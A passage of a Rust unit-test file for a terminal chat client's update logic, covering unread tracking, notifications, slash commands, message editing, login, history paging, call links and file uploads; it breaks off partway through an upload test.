//! `update` tests: feed messages, assert state and effects. One or more per message kind and
//! per mode.

use super::*;
use crate::app::conn::StopReason;
use crate::app::conn::{ConnState, SyncMsg};
use crate::config::Config;
use crate::config::NotifyLevel;
use crate::keymap::Preset;
use crate::model::{Change, OpenFile, PendingState, Staged};
use crate::protocol::types::{ChatMessage, Content};
use crate::protocol::types::{Group, Target};
use crate::protocol::{ApiError, ServerEvent};
use crossterm::event::MouseEvent;
use crossterm::event::{KeyCode, KeyEvent, KeyModifiers, MouseEventKind};
use serde_json::json;

pub(super) fn key(code: KeyCode) -> Msg {
    Msg::Key(KeyEvent::new(code, KeyModifiers::NONE))
}

fn ctrl(c: char) -> Msg {
    Msg::Key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::CONTROL))
}

pub(super) fn alt(code: KeyCode) -> Msg {
    Msg::Key(KeyEvent::new(code, KeyModifiers::ALT))
}

pub(super) fn typed(app: &mut App, text: &str) {
    for c in text.chars() {
        update(app, key(KeyCode::Char(c)));
    }
}

pub(super) fn event(ev: ServerEvent) -> Msg {
    Msg::Sync(SyncMsg::Event(Box::new(ev)))
}

pub(super) fn chat_json(
    mid: i64,
    from: i64,
    target: serde_json::Value,
    text: &str,
    props: serde_json::Value,
) -> ChatMessage {
    serde_json::from_value(json!({"mid":mid,"from_uid":from,"created_at":mid * 1000,"target":target,
        "detail":{"type":"normal","content_type":"text/plain","content":text,"properties":props,"expires_in":null}}))
    .unwrap()
}

/// A `vocechat/file` message from bob in lobby with the given path and properties.
fn file_chat(mid: i64, path: &str, props: serde_json::Value) -> ChatMessage {
    serde_json::from_value(json!({"mid":mid,"from_uid":2,"created_at":mid * 1000,"target":{"gid":1},
        "detail":{"type":"normal","content_type":"vocechat/file","content":path,"properties":props,"expires_in":null}}))
    .unwrap()
}

pub(super) fn chat(mid: i64, from: i64, gid: i64, text: &str) -> ChatMessage {
    chat_json(mid, from, json!({"gid": gid}), text, json!(null))
}

fn group(gid: i64, name: &str, public: bool, members: &[i64]) -> Group {
    serde_json::from_value(json!({"gid":gid,"name":name,"is_public":public,"members":members,"owner":if public {None} else {Some(1)}})).unwrap()
}

pub(super) fn user(uid: i64, name: &str) -> crate::protocol::types::UserInfo {
    serde_json::from_value(json!({"uid":uid,"name":name})).unwrap()
}

fn new_app(preset: Preset) -> App {
    let mut app = App::logged_in(
        1,
        Keymap::new(preset),
        Settings::from(&Config::default()),
        "test".into(),
    );
    app.now_ms = 1_000_000;
    app.screen.size = (100, 30);
    app
}

/// The effect that sends the newest queued change.
pub(super) fn changes_of(app: &App) -> Vec<Effect> {
    app.chat
        .changes
        .last()
        .cloned()
        .map(Effect::Change)
        .into_iter()
        .collect()
}

/// Synced: users me(1) bob(2) carol(3); lobby (1, public) most active, dev (2, private).
pub(super) fn synced() -> App {
    let mut app = new_app(Preset::Default);
    update(
        &mut app,
        event(ServerEvent::UsersSnapshot {
            users: vec![user(1, "me"), user(2, "bob"), user(3, "carol")],
            version: 3,
        }),
    );
    update(
        &mut app,
        event(ServerEvent::RelatedGroups {
            groups: vec![
                group(1, "lobby", true, &[]),
                group(2, "dev", false, &[1, 2]),
            ],
        }),
    );
    // Read up to just before dev's message: its count (1) is exact, nothing to page for it.
    update(
        &mut app,
        event(ServerEvent::UserSettings(
            serde_json::from_value(json!({"read_index_groups": [{"gid": 2, "mid": 9}]})).unwrap(),
        )),
    );
    update(&mut app, event(ServerEvent::Chat(chat(10, 2, 2, "old"))));
    update(&mut app, event(ServerEvent::Chat(chat(11, 2, 1, "new"))));
    update(&mut app, event(ServerEvent::Ready));
    app
}

#[test]
fn ready_opens_the_most_active_conversation_loads_history_and_marks_it_read() {
    let mut app = new_app(Preset::Default);
    update(
        &mut app,
        event(ServerEvent::RelatedGroups {
            groups: vec![
                group(1, "lobby", true, &[]),
                group(2, "dev", false, &[1, 2]),
            ],
        }),
    );
    update(&mut app, event(ServerEvent::Chat(chat(10, 2, 2, "old"))));
    update(&mut app, event(ServerEvent::Chat(chat(11, 2, 1, "new"))));
    assert_eq!(app.timeline.open, None);
    let effects = update(&mut app, event(ServerEvent::Ready));
    assert_eq!(app.timeline.open, Some(ConvKey::Group(1)));
    assert!(effects.contains(&Effect::LoadHistory {
        key: ConvKey::Group(1),
        before: Some(11),
        limit: HISTORY_PAGE
    }));
    assert!(effects.contains(&Effect::MarkRead {
        key: ConvKey::Group(1),
        mid: 11
    }));
    assert_eq!(app.chat.convs[&ConvKey::Group(1)].unread, 0);
    assert_eq!(app.chat.convs[&ConvKey::Group(2)].unread, 1);
}

#[test]
fn messages_in_the_open_conversation_are_read_only_while_you_look() {
    let mut app = synced();
    let effects = update(&mut app, event(ServerEvent::Chat(chat(12, 3, 1, "live"))));
    assert_eq!(
        effects,
        vec![Effect::MarkRead {
            key: ConvKey::Group(1),
            mid: 12
        }]
    );
    // Terminal unfocused: not read, and a mention notifies.
    update(&mut app, Msg::Focus(false));
    let effects = update(
        &mut app,
        event(ServerEvent::Chat(chat_json(
            13,
            3,
            json!({"gid":1}),
            "hey @1 ",
            json!({"mentions":[1]}),
        ))),
    );
    assert!(!effects.iter().any(|e| matches!(e, Effect::MarkRead { .. })));
    assert!(effects.contains(&Effect::Bell));
    assert!(effects.iter().any(|e| matches!(e, Effect::Notify { title, body } if title == "carol in #lobby" && body == "hey @me")));
    // Focus back: caught up.
    let effects = update(&mut app, Msg::Focus(true));
    assert_eq!(
        effects,
        vec![Effect::MarkRead {
            key: ConvKey::Group(1),
            mid: 13
        }]
    );
}

#[test]
fn notifications_follow_levels_mutes_and_hide_text() {
    let mut app = synced();
    // Default level is mentions: a plain message elsewhere does not notify.
    assert!(update(&mut app, event(ServerEvent::Chat(chat(20, 2, 2, "plain")))).is_empty());
    app.settings.notify.level = NotifyLevel::All;
    app.settings.notify.hide_text = true;
    let effects = update(
        &mut app,
        event(ServerEvent::Chat(chat(21, 2, 2, "secret text"))),
    );
    assert!(
        effects
            .iter()
            .any(|e| matches!(e, Effect::Notify { body, .. } if body == "new message"))
    );
    // Muted on the server: only mentions get through.
    app.chat
        .mutes
        .insert(ConvKey::Group(2), crate::model::Mute { until: None });
    assert!(update(&mut app, event(ServerEvent::Chat(chat(22, 2, 2, "muted")))).is_empty());
    let effects = update(
        &mut app,
        event(ServerEvent::Chat(chat_json(
            23,
            2,
            json!({"gid":2}),
            "@1 look",
            json!({"mentions":[1]}),
        ))),
    );
    assert!(effects.contains(&Effect::Bell));
    // Per-conversation "none" wins.
    app.settings
        .notify
        .conversations
        .insert("#dev".into(), NotifyLevel::None);
    assert!(
        update(
            &mut app,
            event(ServerEvent::Chat(chat_json(
                24,
                2,
                json!({"gid":2}),
                "@1 again",
                json!({"mentions":[1]})
            )))
        )
        .is_empty()
    );
}

#[test]
fn switching_conversations_keeps_drafts() {
    let mut app = synced();
    typed(&mut app, "half-written");
    update(&mut app, alt(KeyCode::Down));
    assert_eq!(app.timeline.open, Some(ConvKey::Group(2)));
    assert_eq!(app.composer.text(), "");
    update(&mut app, alt(KeyCode::Up));
    assert_eq!(app.timeline.open, Some(ConvKey::Group(1)));
    assert_eq!(app.composer.text(), "half-written");
}

#[test]
fn next_unread_and_next_mention_jump() {
    let mut app = synced();
    update(&mut app, alt(KeyCode::Char('u')));
    assert_eq!(app.timeline.open, Some(ConvKey::Group(2)));
    update(&mut app, alt(KeyCode::Char('m')));
    assert!(
        app.status
            .notice
            .as_ref()
            .unwrap()
            .text
            .contains("no unread mentions")
    );
}

/// What the composer sent for `text`, after `before` keys.
fn sent_content(app: &mut App, text: &str, before: &[Msg]) -> Content {
    typed(app, text);
    for m in before {
        update(app, m.clone());
    }
    let effects = update(app, key(KeyCode::Enter));
    match effects.as_slice() {
        [Effect::Send { content, .. }] => content.clone(),
        other => panic!("{other:?}"),
    }
}

#[test]
fn markdown_goes_as_markdown_and_ctrl_t_switches_one_draft() {
    let mut app = synced();
    assert_eq!(
        sent_content(&mut app, "run `make`", &[]),
        Content::Markdown("run `make`".into())
    );
    assert_eq!(
        sent_content(&mut app, "2*3*4", &[]),
        Content::Text("2*3*4".into())
    );
    // Ctrl+T: this one as plain text, the next one decides afresh.
    assert_eq!(
        sent_content(&mut app, "**no**", &[ctrl('t')]),
        Content::Text("**no**".into())
    );
    assert_eq!(
        sent_content(&mut app, "**yes**", &[]),
        Content::Markdown("**yes**".into())
    );
    assert_eq!(
        sent_content(&mut app, "plain", &[ctrl('t')]),
        Content::Markdown("plain".into())
    );
    app.settings.send_markdown = crate::config::MarkdownMode::Never;
    assert_eq!(
        sent_content(&mut app, "**x**", &[]),
        Content::Text("**x**".into())
    );
    app.settings.send_markdown = crate::config::MarkdownMode::Always;
    assert_eq!(
        sent_content(&mut app, "x", &[]),
        Content::Markdown("x".into())
    );
}

#[test]
fn enter_sends_optimistically_and_alt_enter_adds_a_line() {
    let mut app = synced();
    typed(&mut app, "hi");
    update(&mut app, alt(KeyCode::Enter));
    typed(&mut app, "there");
    let effects = update(&mut app, key(KeyCode::Enter));
    assert_eq!(app.composer.text(), "");
    let [
        Effect::Send {
            key: k,
            local_id,
            content,
            properties,
            reply_to: None,
            retry: false,
        },
    ] = effects.as_slice()
    else {
        panic!("{effects:?}")
    };
    assert_eq!(*k, ConvKey::Group(1));
    assert_eq!(*content, Content::Text("hi\nthere".into()));
    assert_eq!(properties.local_id, Some(*local_id));
    assert_eq!(app.chat.convs[&ConvKey::Group(1)].pending.len(), 1);
    update(
        &mut app,
        Msg::Sent {
            key: ConvKey::Group(1),
            local_id: *local_id,
            result: Ok(30),
        },
    );
    update(
        &mut app,
        event(ServerEvent::Chat(chat(30, 1, 1, "hi\nthere"))),
    );
    assert!(app.chat.convs[&ConvKey::Group(1)].pending.is_empty());
    assert!(
        update(&mut app, key(KeyCode::Enter)).is_empty(),
        "blank input sends nothing"
    );
}

#[test]
fn failed_sends_stay_and_can_be_retried() {
    let mut app = synced();
    let local_id = send_typed(&mut app, "x");
    update(
        &mut app,
        Msg::Sent {
            key: ConvKey::Group(1),
            local_id,
            result: Err("cannot reach the server".into()),
        },
    );
    assert_eq!(
        app.chat.convs[&ConvKey::Group(1)].pending[0].state,
        PendingState::Failed("cannot reach the server".into())
    );
    assert!(app.status.notice.as_ref().unwrap().error);
    let effects = update(&mut app, alt(KeyCode::Char('r')));
    assert!(matches!(effects.as_slice(), [Effect::Send { local_id: l, .. }] if *l == local_id));
    assert_eq!(
        app.chat.convs[&ConvKey::Group(1)].pending[0].state,
        PendingState::Sending
    );
}

#[test]
fn mentions_complete_from_members_and_go_out_as_uids() {
    let mut app = synced();
    update(&mut app, alt(KeyCode::Down)); // dev: members me and bob
    typed(&mut app, "hi @b");
    update(&mut app, key(KeyCode::Tab));
    assert_eq!(app.composer.text(), "hi @bob ");
    typed(&mut app, "look");
    let effects = update(&mut app, key(KeyCode::Enter));
    let [
        Effect::Send {
            content,
            properties,
            ..
        },
    ] = effects.as_slice()
    else {
        panic!("{effects:?}")
    };
    assert_eq!(*content, Content::Text("hi @2 look".into()));
    assert_eq!(properties.mentions, vec![2]);
}

#[test]
fn commands_complete_and_run() {
    let mut app = synced();
    typed(&mut app, "/mu");
    update(&mut app, key(KeyCode::Tab));
    assert_eq!(app.composer.text(), "/mute ");
    typed(&mut app, "1h");
    assert_eq!(
        update(&mut app, key(KeyCode::Enter)),
        vec![Effect::Mute {
            key: ConvKey::Group(1),
            seconds: Some(3600)
        }]
    );
    typed(&mut app, "/burn 5m");
    assert_eq!(
        update(&mut app, key(KeyCode::Enter)),
        vec![Effect::Burn {
            key: ConvKey::Group(1),
            seconds: 300
        }]
    );
    typed(&mut app, "/burn never");
    assert!(update(&mut app, key(KeyCode::Enter)).is_empty());
    assert!(app.status.notice.as_ref().unwrap().error);
    typed(&mut app, "/create --public town @bob carol");
    assert_eq!(
        update(&mut app, key(KeyCode::Enter)),
        vec![Effect::CreateGroup {
            name: "town".into(),
            members: vec![2, 3],
            public: true
        }]
    );
    typed(&mut app, "/members");
    update(&mut app, key(KeyCode::Enter));
    assert!(matches!(app.popups.top(), Some(Popup::Info(Info { lines, .. })) if lines.len() == 3));
    update(&mut app, key(KeyCode::Esc));
    typed(&mut app, "/nope");
    update(&mut app, key(KeyCode::Enter));
    assert!(
        app.status
            .notice
            .as_ref()
            .unwrap()
            .text
            .contains("unknown command")
    );
    typed(&mut app, "//not a command");
    assert!(
        matches!(update(&mut app, key(KeyCode::Enter)).as_slice(), [Effect::Send { content: Content::Text(t), .. }] if t == "/not a command")
    );
    update(&mut app, alt(KeyCode::Down));
    typed(&mut app, "/leave");
    update(&mut app, key(KeyCode::Enter));
    assert_eq!(app.popups.top(), Some(&Popup::Confirm(Confirm::Leave(2))));
    assert_eq!(
        update(&mut app, key(KeyCode::Char('y'))),
        vec![Effect::Leave { gid: 2 }]
    );
    typed(&mut app, "/logout");
    assert_eq!(
        update(&mut app, key(KeyCode::Enter)),
        vec![Effect::Logout { forget: false }]
    );
    typed(&mut app, "/logout --forget");
    assert_eq!(
        update(&mut app, key(KeyCode::Enter)),
        vec![Effect::Logout { forget: true }]
    );
}

#[test]
fn selection_mode_replies_edits_reacts_copies_and_deletes_with_confirm() {
    let mut app = synced();
    update(
        &mut app,
        event(ServerEvent::Chat(chat(12, 1, 1, "mine https://x.org/a"))),
    );
    update(&mut app, alt(KeyCode::Char('s')));
    assert_eq!(app.mode, Mode::Select(12));
    update(&mut app, key(KeyCode::Up));
    assert_eq!(app.mode, Mode::Select(11));
    // Reply to bob's message.
    update(&mut app, key(KeyCode::Char('r')));
    assert_eq!(
        (app.mode.clone(), app.composer.target),
        (Mode::Chat, ComposeTarget::Reply(11))
    );
    typed(&mut app, "sure");
    assert!(matches!(
        update(&mut app, key(KeyCode::Enter)).as_slice(),
        [Effect::Send {
            reply_to: Some(11),
            ..
        }]
    ));
    // React with the picker.
    update(&mut app, alt(KeyCode::Char('s')));
    update(&mut app, key(KeyCode::Char('+')));
    assert_eq!(
        app.popups.top(),
        Some(&Popup::React(React { mid: 12, index: 0 }))
    );
    update(&mut app, key(KeyCode::Right));
    assert_eq!(update(&mut app, key(KeyCode::Enter)), changes_of(&app));
    assert_eq!(
        app.chat.changes.last().map(|c| (c.mid, c.change.clone())),
        Some((
            12,
            Change::React {
                emoji: "😄".into(),
                on: true
            }
        ))
    );
    // Copy and open link.
    assert_eq!(
        update(&mut app, key(KeyCode::Char('y'))),
        vec![Effect::CopyText("mine https://x.org/a".into())]
    );
    assert_eq!(
        update(&mut app, key(KeyCode::Char('o'))),
        vec![Effect::OpenUrl("https://x.org/a".into())]
    );
    // Delete asks first; "n" cancels.
    update(&mut app, key(KeyCode::Char('d')));
    assert_eq!(app.popups.top(), Some(&Popup::Confirm(Confirm::Delete(12))));
    assert!(update(&mut app, key(KeyCode::Char('n'))).is_empty());
    assert_eq!((&app.mode, app.popups.top()), (&Mode::Select(12), None));
    update(&mut app, key(KeyCode::Char('d')));
    assert_eq!(update(&mut app, key(KeyCode::Char('y'))), changes_of(&app));
    assert_eq!(
        app.chat.changes.last().map(|c| (c.mid, c.change.clone())),
        Some((12, Change::Delete))
    );
    // Someone else's message cannot be edited or deleted.
    update(&mut app, alt(KeyCode::Char('s')));
    update(&mut app, key(KeyCode::Up));
    update(&mut app, key(KeyCode::Char('e')));
    assert!(app.status.notice.as_ref().unwrap().error);
    update(&mut app, key(KeyCode::Char('d')));
    assert_eq!(app.mode, Mode::Select(11));
}

#[test]
fn up_on_an_empty_composer_edits_your_last_message() {
    let mut app = synced();
    update(
        &mut app,
        event(ServerEvent::Chat(chat_json(
            12,
            1,
            json!({"gid":1}),
            "hello @2 ",
            json!({"mentions":[2]}),
        ))),
    );
    update(&mut app, key(KeyCode::Up));
    assert_eq!(app.composer.target, ComposeTarget::Edit(12));
    assert_eq!(app.composer.text(), "hello @bob ");
    update(&mut app, key(KeyCode::Backspace));
    typed(&mut app, "!");
    let effects = update(&mut app, key(KeyCode::Enter));
    let [Effect::Change(c)] = effects.as_slice() else {
        panic!("{effects:?}")
    };
    assert_eq!(
        (c.mid, &c.change),
        (12, &Change::Edit(Content::Text("hello @2!".into())))
    );
    // Esc cancels an edit and clears the composer.
    update(&mut app, key(KeyCode::Up));
    update(&mut app, key(KeyCode::Esc));
    assert_eq!(
        (app.composer.target, app.composer.text()),
        (ComposeTarget::New, String::new())
    );
}

#[test]
fn editing_shows_mentions_as_names_only_where_the_text_mentions_them() {
    let mut app = synced();
    update(
        &mut app,
        event(ServerEvent::Chat(chat_json(
            12,
            1,
            json!({"gid":1}),
            "@2 see room @23, mail x@2",
            json!({"mentions":[2]}),
        ))),
    );
    update(&mut app, key(KeyCode::Up));
    assert_eq!(app.composer.target, ComposeTarget::Edit(12));
    // `@23` is not a mention of 2 and `x@2` is not a mention at all.
    assert_eq!(app.composer.text(), "@bob see room @23, mail x@2");
    assert_eq!(app.composer.mentions.get("bob"), Some(&2));
}

#[test]
fn the_switcher_finds_channels_and_people() {
    let mut app = synced();
    update(&mut app, ctrl('k'));
    assert!(matches!(app.popups.top(), Some(Popup::Switcher(_))));
    typed(&mut app, "car");
    update(&mut app, key(KeyCode::Enter));
    assert_eq!(
        app.timeline.open,
        Some(ConvKey::User(3)),
        "a DM is opened for a person without one"
    );
    update(&mut app, ctrl('k'));
    typed(&mut app, "dev");
    update(&mut app, key(KeyCode::Enter));
    assert_eq!(app.timeline.open, Some(ConvKey::Group(2)));
    update(&mut app, ctrl('k'));
    update(&mut app, key(KeyCode::Esc));
    assert_eq!((&app.mode, app.popups.top()), (&Mode::Chat, None));
}

#[test]
fn help_and_vim_preset() {
    let mut app = synced();
    update(&mut app, key(KeyCode::F(1)));
    assert!(matches!(app.popups.top(), Some(Popup::Help(_))));
    update(&mut app, key(KeyCode::Char('x')));
    assert_eq!((&app.mode, app.popups.top()), (&Mode::Chat, None));
    let mut vim = new_app(Preset::Vim);
    vim.chat = app.chat.clone();
    vim.timeline.open = app.timeline.open;
    update(&mut vim, key(KeyCode::Esc));
    assert!(
        matches!(vim.mode, Mode::Select(_)),
        "Esc leaves insert mode in the vim preset"
    );
    update(&mut vim, key(KeyCode::Char('g')));
    update(&mut vim, key(KeyCode::Char('i')));
    assert_eq!(vim.mode, Mode::Chat);
}

#[test]
fn scrolling_asks_for_history_before_the_top() {
    let mut app = synced();
    // Opening asked for a page; it comes back full, so there may be more.
    // Three short messages do not fill the screen, so the next page is asked for at once.
    let effects = update(
        &mut app,
        Msg::History {
            key: ConvKey::Group(1),
            before: Some(11),
            limit: 2,
            result: Ok(vec![chat(8, 2, 1, "a"), chat(9, 3, 1, "b")]),
        },
    );
    assert!(!app.chat.convs[&ConvKey::Group(1)].history_complete);
    assert!(
        matches!(
            effects.as_slice(),
            [Effect::LoadHistory {
                key: ConvKey::Group(1),
                before: Some(8),
                ..
            }]
        ),
        "{effects:?}"
    );
    // Not asked twice while one is in flight.
    assert!(update(&mut app, key(KeyCode::PageUp)).is_empty());
    assert!(app.timeline.scroll > 0);
    // The renderer reports the real limit; scroll is clamped by it.
    update(
        &mut app,
        Msg::View(crate::app::View {
            max_scroll: 3,
            scroll: 3,
            sidebar_rows: None,
            shown: None,
        }),
    );
    assert_eq!(app.timeline.scroll, 3);
    for _ in 0..3 {
        update(&mut app, key(KeyCode::PageDown));
    }
    assert_eq!(app.timeline.scroll, 0);
    // Wheel scrolls too.
    update(
        &mut app,
        Msg::Mouse(MouseEvent {
            kind: MouseEventKind::ScrollUp,
            column: 50,
            row: 5,
            modifiers: KeyModifiers::NONE,
        }),
    );
    assert_eq!(app.timeline.scroll, 3);
}

#[test]
fn history_pages_fold_in_and_errors_are_shown() {
    let mut app = synced();
    let page = vec![chat(3, 2, 1, "older"), chat(5, 2, 1, "old")];
    update(
        &mut app,
        Msg::History {
            key: ConvKey::Group(1),
            before: Some(11),
            limit: 100,
            result: Ok(page),
        },
    );
    let conv = &app.chat.convs[&ConvKey::Group(1)];
    assert_eq!(
        conv.messages.keys().copied().collect::<Vec<_>>(),
        vec![3, 5, 11]
    );
    assert!(conv.history_complete);
    update(
        &mut app,
        Msg::History {
            key: ConvKey::Group(2),
            before: Some(10),
            limit: 100,
            result: Err("timed out".into()),
        },
    );
    assert!(
        app.status
            .notice
            .as_ref()
            .unwrap()
            .text
            .contains("timed out")
    );
}

#[test]
fn connection_states_are_tracked_and_an_expired_session_asks_to_log_in() {
    let mut app = synced();
    update(
        &mut app,
        Msg::Sync(SyncMsg::State(ConnState::Waiting {
            retry_at_ms: 2_000,
            attempt: 2,
            reason: "x".into(),
        })),
    );
    assert!(matches!(app.status.conn, ConnState::Waiting { .. }));
    assert_eq!(update(&mut app, ctrl('r')), vec![Effect::ReconnectNow]);
    app.account.login = Some(("https://chat.example.com/".into(), "me@example.com".into()));
    update(
        &mut app,
        Msg::Sync(SyncMsg::State(ConnState::Stopped(
            StopReason::SessionExpired,
        ))),
    );
    let Mode::Login(form) = &app.mode else {
        panic!("{:?}", app.mode)
    };
    assert_eq!(form.email, "me@example.com");
    assert_eq!(form.focus, LoginField::Password);
}

#[test]
fn the_login_form_validates_and_submits() {
    let mut app = App::new(
        Keymap::new(Preset::Default),
        Settings::from(&Config::default()),
        String::new(),
    );
    app.mode = Mode::Login(LoginForm::new(None, None, None));
    typed(&mut app, "chat.example.com");
    update(&mut app, key(KeyCode::Enter));
    typed(&mut app, "me@example.com");
    update(&mut app, key(KeyCode::Tab));
    assert!(
        update(&mut app, key(KeyCode::Enter)).is_empty(),
        "no password yet"
    );
    let Mode::Login(form) = &app.mode else {
        panic!()
    };
    assert_eq!(form.error.as_deref(), Some("enter your password"));
    typed(&mut app, "s3cret");
    let effects = update(&mut app, key(KeyCode::Enter));
    assert_eq!(
        effects,
        vec![Effect::Login {
            server: "chat.example.com".into(),
            email: "me@example.com".into(),
            password: "s3cret".into(),
            password_command: false
        }]
    );
    let Mode::Login(form) = &app.mode else {
        panic!()
    };
    assert!(
        form.password.is_empty(),
        "the password is not kept in the form"
    );
    // Failure comes back to the form; success starts the stream.
    update(&mut app, Msg::LoggedIn(Err("wrong password".into())));
    let Mode::Login(form) = &app.mode else {
        panic!()
    };
    assert_eq!(
        (form.busy, form.error.as_deref()),
        (false, Some("wrong password"))
    );
    let effects = update(
        &mut app,
        Msg::LoggedIn(Ok(Box::new(LoggedIn {
            account: crate::app::FIRST_ACCOUNT,
            uid: 7,
            user: Some(user(7, "me")),
            server: "https://chat.example.com/".into(),
            email: "me@example.com".into(),
        }))),
    );
    assert_eq!(effects, vec![Effect::StartSync]);
    assert_eq!((app.mode.clone(), app.chat.me), (Mode::Chat, Some(7)));
    assert_eq!(app.status.server_label, "chat.example.com");
}

#[test]
fn pastes_are_sanitized_and_go_where_the_focus_is() {
    let mut app = synced();
    update(&mut app, Msg::Paste("a\x1b[2Jb\nc".into()));
    assert_eq!(app.composer.text(), "ab\nc");
    update(&mut app, ctrl('k'));
    update(&mut app, Msg::Paste("de".into()));
    assert!(matches!(app.popups.top(), Some(Popup::Switcher(s)) if s.query == "de"));
}

#[test]
fn pasted_line_breaks_sent_as_carriage_returns_are_kept() {
    let mut app = synced();
    update(&mut app, Msg::Paste("one\rtwo\r\nthree\nfour".into()));
    assert_eq!(app.composer.text(), "one\ntwo\nthree\nfour");
}

#[test]
fn kicked_from_the_open_channel_closes_it() {
    let mut app = synced();
    update(&mut app, alt(KeyCode::Down));
    assert_eq!(app.timeline.open, Some(ConvKey::Group(2)));
    update(
        &mut app,
        event(ServerEvent::KickFromGroup {
            gid: 2,
            reason: "kick".into(),
        }),
    );
    assert_eq!(app.timeline.open, None);
    assert!(app.status.notice.is_some());
}

#[test]
fn burn_after_reading_messages_set_a_deadline_and_expire() {
    let mut app = synced();
    let burn: ChatMessage = serde_json::from_value(json!({"mid":40,"from_uid":2,"created_at":app.now_ms,"target":{"gid":1},
        "detail":{"type":"normal","content_type":"text/plain","content":"gone soon","properties":null,"expires_in":30}}))
    .unwrap();
    update(&mut app, event(ServerEvent::Chat(burn)));
    assert_eq!(app.next_deadline(), Some(app.now_ms + 30_000));
    app.now_ms += 30_001;
    update(&mut app, Msg::Tick);
    assert_eq!(app.next_deadline(), None);
    assert!(app.chat.message(40).unwrap().is_expired(app.now_ms));
}

#[test]
fn call_makes_a_personal_link_shown_not_posted() {
    let mut app = synced();
    typed(&mut app, "/call");
    let effects = update(&mut app, key(KeyCode::Enter));
    let [Effect::CallLink { task, .. }] = effects.as_slice() else {
        panic!("{effects:?}")
    };
    let task = *task;
    assert_eq!(
        effects,
        vec![Effect::CallLink {
            task,
            target: CallTarget::Conversation(ConvKey::Group(1)),
            options: crate::protocol::vocespace::CallOptions::default(),
            username: "me".into(),
            avatar_uid: None
        }]
    );
    assert_eq!(
        app.tasks.get(task).map(|t| &t.kind),
        Some(&TaskKind::MeetingLink)
    );
    let link = crate::protocol::vocespace::CallLink {
        url: "https://m.example.com/api/connection-details?auth=vocechat&token=a.b.c".into(),
        space: "channel_1".into(),
        base: "https://m.example.com".into(),
        room: None,
        expires_at: 0,
    };
    update(
        &mut app,
        Msg::CallLink {
            task,
            result: Ok(link.clone()),
        },
    );
    assert_eq!(app.popups.top(), Some(&Popup::Call(link.clone())));
    assert!(app.tasks.is_empty());
    assert_eq!(
        update(&mut app, key(KeyCode::Char('c'))),
        vec![Effect::CopyText(link.url.clone())]
    );
    // /call post invites with the plain link; the executor posts it.
    typed(&mut app, "/call post");
    assert!(matches!(
        update(&mut app, key(KeyCode::Enter)).as_slice(),
        [Effect::PostInvite {
            key: ConvKey::Group(1),
            ..
        }]
    ));
    // Someone's invite: select it and press c for your own link to that room.
    update(
        &mut app,
        event(ServerEvent::Chat(chat(
            50,
            2,
            1,
            "Join Vocespace Meeting: https://m.example.com/channel_1",
        ))),
    );
    // Plain /call now goes to the invited room too.
    typed(&mut app, "/call");
    let effects = update(&mut app, key(KeyCode::Enter));
    assert!(
        matches!(&effects[..], [Effect::CallLink { target: CallTarget::Space { space, .. }, .. }] if space == "channel_1")
    );
    update(&mut app, alt(KeyCode::Char('s')));
    let effects = update(&mut app, key(KeyCode::Char('c')));
    assert!(
        matches!(&effects[..], [Effect::CallLink { target: CallTarget::Space { base, space }, .. }] if base == "https://m.example.com" && space == "channel_1")
    );
    let [Effect::CallLink { task, .. }] = effects.as_slice() else {
        panic!("{effects:?}")
    };
    update(
        &mut app,
        Msg::CallLink {
            task: *task,
            result: Err("no network".into()),
        },
    );
    assert!(
        app.status
            .notice
            .as_ref()
            .unwrap()
            .text
            .contains("no network")
    );
}

#[test]
fn call_options_reach_the_link_and_bad_ones_are_errors() {
    use crate::protocol::vocespace::{CallOptions, Room};
    let mut app = synced();
    typed(
        &mut app,
        "/call room \"Design review\" identity guest --no-prejoin",
    );
    let effects = update(&mut app, key(KeyCode::Enter));
    let [
        Effect::CallLink {
            target, options, ..
        },
    ] = effects.as_slice()
    else {
        panic!("{effects:?}")
    };
    assert_eq!(target, &CallTarget::Conversation(ConvKey::Group(1)));
    assert_eq!(
        options,
        &CallOptions {
            room: Some(Room::Named("Design review".into())),
            identity: Some("guest".into()),
            pre_join: Some(false),
        }
    );
    // Options keep the invited room as the target, like a bare /call.
    update(
        &mut app,
        event(ServerEvent::Chat(chat(
            50,
            2,
            1,
            "Join Vocespace Meeting: https://m.example.com/channel_1",
        ))),
    );
    typed(&mut app, "/call --empty");
    let effects = update(&mut app, key(KeyCode::Enter));
    assert!(
        matches!(&effects[..], [Effect::CallLink { target: CallTarget::Space { space, .. }, options, .. }]
            if space == "channel_1" && options.room == Some(Room::Empty)),
        "{effects:?}"
    );
    let running = app.tasks.len();
    for (typed_line, expected) in [
        ("/call --loud", "unknown option"),
        ("/call room", "room needs a name"),
        ("/call post --main", "post takes no options"),
    ] {
        typed(&mut app, typed_line);
        assert_eq!(
            update(&mut app, key(KeyCode::Enter)),
            vec![],
            "{typed_line}"
        );
        let notice = app.status.notice.as_ref().unwrap();
        assert!(
            notice.error && notice.text.contains(expected),
            "{typed_line}: {}",
            notice.text
        );
        assert_eq!(app.tasks.len(), running, "no task for a refused /call");
    }
}

fn staged(name: &str, size: u64) -> Staged {
    Staged {
        path: format!("/tmp/{name}").into(),
        name: name.into(),
        size,
        content_type: "image/png".into(),
        file: OpenFile::new(tempfile::tempfile().unwrap()),
    }
}

#[test]
fn upload_picks_files_off_the_ui_task_and_sends_them_with_enter() {
    let mut app = synced();
    typed(&mut app, "/upload ~/a.png \"b c.png\"");
    assert_eq!(
        update(&mut app, key(KeyCode::Enter)),
        vec![Effect::StageFiles {
            paths: vec!["~/a.png".into(), "b c.png".into()],
            paste: None
        }]
    );
    update(
        &mut app,
        Msg::Staged {
            files: vec![staged("a.png", 10), staged("b c.png", 20)],
            errors: vec![],
            paste: None,
        },
    );
    assert_eq!(app.composer.staged.len(), 2);
    // Alt+X with two asks which; the first is picked and removed.
    update(&mut app, alt(KeyCode::Char('x')));
    assert_eq!(
        app.popups.top(),
        Some(&Popup::Staged(crate::app::Staged { selected: 1 }))
    );
    update(&mut app, key(KeyCode::Up));
    update(&mut app, key(KeyCode::Enter));
    assert_eq!(
        app.popups.top(),
        Some(&Popup::Staged(crate::app::Staged { selected: 0 })),
        "open while files remain"
    );
    assert_eq!(app.composer.staged.len(), 1);
    assert_eq!(app.composer.staged[0].name, "b c.png");
    update(&mut app, key(KeyCode::Esc));
    assert_eq!((&app.mode, app.popups.top()), (&Mode::Chat, None));
    typed(&mut app, "here it is");
    let effects = update(&mut app, key(KeyCode::Enter));
    let [
        Effect::Upload {
            key: k,
            local_id,
            file,
            ..
        },
        Effect::Send { content, .. },
    ] = effects.as_slice()
    else {
        panic!("{effects:?}")
    };
